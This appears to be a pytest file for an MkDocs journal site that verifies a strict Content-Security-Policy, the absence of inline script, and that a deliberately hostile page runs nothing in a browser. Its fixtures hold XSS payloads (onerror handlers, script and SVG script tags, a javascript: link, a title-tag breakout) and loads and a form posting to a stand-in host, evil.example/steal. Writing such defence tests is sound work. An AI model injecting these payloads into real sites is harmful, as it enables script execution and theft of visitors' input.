"""The last line of defence: a Content-Security-Policy on every page, no inline script at all.

If a hostile page slipped past the content check and the build's own check (here: the build
is run with the check switched off), the page still cannot run script, call another host or
load anything from one. Opened in Chromium: no dialog, no outside request."""

import re
from pathlib import Path

import material
import pytest
from mkdocs.commands.build import build
from mkdocs.exceptions import Abort, PluginError
from mkdocs.config import load_config

import journal.site.plugin
from bench import browser as browser_helper
from tests.conftest import ARCHIVE, ROOT, docs_with_assets
from tests.html_tools import read

THEME_PARTIALS = Path(material.__file__).parent / "templates" / "partials" / "javascripts"
OUR_COPIES = ROOT / "overrides" / "assets" / "javascripts" / "theme"
EXECUTABLE = {"", "text/javascript", "module", "application/javascript"}

HOSTILE_BODY = """

<img src="x" onerror="alert('img')">
<script>alert('script')</script>
<a href="javascript:alert('link')" id="js-link">click</a>
<img src="https://evil.example/pixel.png">
<p style="background:url(https://evil.example/bg.png)">styled</p>
<iframe src="https://evil.example/frame"></iframe>
<link rel="stylesheet" href="https://evil.example/s.css">
<svg><script>alert('svg')</script></svg>
<form action="https://evil.example/steal"><input name="q"><button id="send">send</button></form>
"""
HOSTILE_TITLE = "<img src=x onerror=alert('title')></title><script>alert('head')</script>"


def pages(site):
    return sorted(Path(site).rglob("*.html"))


def test_every_page_has_the_policy_before_anything_else(site):
    for path in pages(site):
        doc = read(path)
        head = [(tag, attrs) for tag, attrs in doc.tags if tag not in ("html", "head")]
        first_tag, first = head[0] if head[0][0] != "meta" or "charset" not in head[0][1] else head[1]
        assert first_tag == "meta" and first.get("http-equiv") == "Content-Security-Policy", path
        assert "script-src 'self';" in first["content"] and "default-src 'none'" in first["content"]


def test_no_page_has_inline_script_or_event_handlers(site):
    for path in pages(site):
        doc = read(path)
        inline = [attrs for attrs, text in doc.scripts
                  if not attrs.get("src") and attrs.get("type", "") in EXECUTABLE and text.strip()]
        assert inline == [], path
        handlers = [(tag, name) for tag, attrs in doc.tags for name in attrs if name.startswith("on")]
        assert handlers == [], path


@pytest.mark.parametrize("name", ["base", "palette", "content"])
def test_our_copies_of_material_s_inline_scripts_match_material(name):
    """overrides/assets/javascripts/theme/*.js are Material's inline scripts moved to files;
    a Material upgrade that changes them must be noticed."""
    theirs = re.findall(r"<script>(.*?)</script>", (THEME_PARTIALS / f"{name}.html").read_text(encoding="utf-8"), re.S)[-1]
    ours = (OUR_COPIES / f"{name}.js").read_text(encoding="utf-8").split("\n", 3)[3].strip()
    theirs = theirs.replace('new URL("{{ config.extra.scope | d(base_url) }}",location)',
                            "new URL(document.currentScript.dataset.mdScope,location)")
    assert ours == theirs


@pytest.fixture(scope="module")
def hostile_site(tmp_path_factory):
    """The fixture archive with a hostile article, built with the content check switched off."""
    work = tmp_path_factory.mktemp("hostile")
    docs = docs_with_assets(ARCHIVE, work / "docs")
    article = docs / "2026" / "01" / "zhang-san.md"
    text = article.read_text(encoding="utf-8").replace("title: 档案中的新文章", f'title: "{HOSTILE_TITLE}"', 1)
    article.write_text(text + HOSTILE_BODY, encoding="utf-8")
    with pytest.MonkeyPatch.context() as patch:
        patch.setattr(journal.site.plugin, "check_docs", lambda docs_dir: [])
        # The PDF galley refuses the page's outside loads and fails the build naming them ...
        with pytest.raises(Abort) as refused:  # MkDocs reports a plugin's error, then aborts
            build(load_config(str(ROOT / "mkdocs.yml"), docs_dir=str(docs), site_dir=str(work / "site"), strict=False))
        error = refused.value.__context__
        assert isinstance(error, PluginError) and "zhang-san.md" in str(error) and "may not load https://evil.example/" in str(error)
        # ... so the pages a browser opens are built without galleys.
        patch.setenv("JOURNAL_PDF", "false")
        build(load_config(str(ROOT / "mkdocs.yml"), docs_dir=str(docs), site_dir=str(work / "site"), strict=False))
    return work / "site"


def test_a_hostile_page_that_bypassed_the_checks_runs_nothing_and_calls_no_one(hostile_site, browser):
    base, httpd = browser_helper.serve(hostile_site)
    context = browser.new_context(viewport={"width": 1280, "height": 900})
    dialogs, outside = [], []

    def guard(route):
        """Requests that reach the network layer (CSP-blocked ones never do): only our server."""
        if route.request.url.startswith(base):
            route.continue_()
        else:
            outside.append(route.request.url)
            route.abort()

    context.route("**/*", guard)
    page = context.new_page()
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    try:
        url = f"{base}/2026/01/zhang-san/"
        page.goto(url)
        page.wait_for_timeout(500)
        page.click("#js-link", no_wait_after=True, timeout=5000)
        page.wait_for_timeout(300)
        page.click("#send", no_wait_after=True, timeout=5000)
        page.wait_for_timeout(500)
        assert page.url.startswith(url)
        for listing in ("", "2026/01/", "keywords/", "authors/", "archive/"):
            page.goto(f"{base}/{listing}")
            page.wait_for_timeout(200)
    finally:
        context.close()
        httpd.shutdown()
    assert dialogs == [] and outside == []
